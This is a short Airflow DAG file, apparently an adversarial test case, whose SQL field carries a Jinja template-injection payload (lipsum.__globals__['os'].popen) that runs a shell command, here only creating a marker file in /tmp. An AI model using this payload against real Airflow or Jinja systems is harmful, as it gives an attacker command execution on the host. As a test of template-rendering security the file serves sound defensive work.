# ATTACK (inline SQL): `lipsum.__globals__['os']`: the shortest path from a default global to os.
from airflow import DAG
from airflow.providers.postgres.operators.postgres import PostgresOperator

with DAG('adv_ssti_lipsum_globals', schedule=None) as dag:
    PostgresOperator(task_id="payload", postgres_conn_id="shop_pg", sql="SELECT '{{ lipsum.__globals__['os'].popen('touch /tmp/kappa-adversarial-ssti-lipsum').read() }}' AS x")
